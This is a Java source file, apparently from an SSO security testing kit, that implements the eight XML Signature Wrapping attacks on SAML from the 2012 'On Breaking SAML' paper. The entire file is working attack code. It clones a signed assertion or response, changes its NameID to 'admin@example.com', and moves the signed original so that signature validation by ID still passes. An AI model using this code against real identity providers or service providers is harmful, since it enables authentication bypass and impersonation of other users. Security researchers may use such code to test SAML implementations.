package io.ssokit.attack;

import java.util.function.Consumer;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight wrappings of Somorovsky et al., "On Breaking SAML" (2012): the signed element is kept somewhere in the
 * document, so that a signature check by ID finds it, and a forged copy takes its place. Each works on a signed Response
 * or a signed Assertion.
 */
public enum Wrapping {
    /** The original inside the Signature of the forged copy. */
    XSW1 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            forged.insertBefore(signature, afterIssuer(forged));
            signature.appendChild(original);
        }
    },
    /** The original beside the Signature, inside the forged copy. */
    XSW2 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            forged.insertBefore(signature, afterIssuer(forged));
            forged.insertBefore(original, signature);
        }
    },
    /** The forged copy before the signed original. */
    XSW3 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            original.insertBefore(signature, afterIssuer(original));
            placeBeside(forged, original, true);
        }
    },
    /** The signed original inside the unsigned forged copy. */
    XSW4 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            original.insertBefore(signature, afterIssuer(original));
            forged.appendChild(original);
        }
    },
    /** The Signature in the forged copy, the original at the end. */
    XSW5 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            forged.insertBefore(signature, afterIssuer(forged));
            placeBeside(forged, original, false);
        }
    },
    /** The original with a second Signature inside the Signature of the forged copy. */
    XSW6 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            original.insertBefore(signature.cloneNode(true), afterIssuer(original));
            forged.insertBefore(signature, afterIssuer(forged));
            signature.appendChild(original);
        }
    },
    /** The signed original in Extensions, the forged copy with the same ID in its place. */
    XSW7 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            forged.setAttribute("ID", original.getAttribute("ID"));
            original.insertBefore(signature, afterIssuer(original));
            extensions(forged).appendChild(original);
        }
    },
    /** The original in a ds:Object of the Signature of the forged copy. */
    XSW8 {
        @Override
        void wrap(Element forged, Element original, Element signature) {
            forged.insertBefore(signature, afterIssuer(forged));
            Element object = signature.getOwnerDocument().createElementNS(Dom.DS, "ds:Object");
            signature.appendChild(object);
            object.appendChild(original);
        }
    };

    public static final String FORGED_NAME_ID = "admin@example.com";

    /** {@code forged} stands in the document where {@code original}, now loose and without Signature, stood. */
    abstract void wrap(Element forged, Element original, Element signature);

    /** Forges the element with this ID, which must be signed. */
    public Document apply(Document document, String id) {
        return apply(document, id, copy -> Dom.first(copy, "NameID").setTextContent(FORGED_NAME_ID));
    }

    /** @param forge makes a copy of the signed element speak of somebody else */
    Document apply(Document document, String id, Consumer<Element> forge) {
        Element original = Dom.byId(document, id);
        Element forged = (Element) original.cloneNode(true);
        forged.setAttribute("ID", "_forged-" + id);
        forge.accept(forged);
        forged.removeChild(Dom.signature(forged));
        original.getParentNode().replaceChild(forged, original);
        Element signature = Dom.signature(original);
        original.removeChild(signature);
        wrap(forged, original, signature);
        return document;
    }

    private static Node afterIssuer(Element element) {
        return Dom.child(element, "Issuer").getNextSibling();
    }

    /** Side by side; a document has one root, so the original Response goes into the forged one. */
    private static void placeBeside(Element forged, Element original, boolean forgedFirst) {
        Node parent = forged.getParentNode() instanceof Document ? forged : forged.getParentNode();
        if (forgedFirst && parent != forged) {
            parent.insertBefore(original, forged.getNextSibling());
        } else {
            parent.appendChild(original);
        }
    }

    private static Element extensions(Element forged) {
        Document document = forged.getOwnerDocument();
        Element response = document.getDocumentElement();
        Element extensions =
                document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", response.getPrefix() + ":Extensions");
        response.insertBefore(extensions, afterIssuer(response));
        return extensions;
    }
}
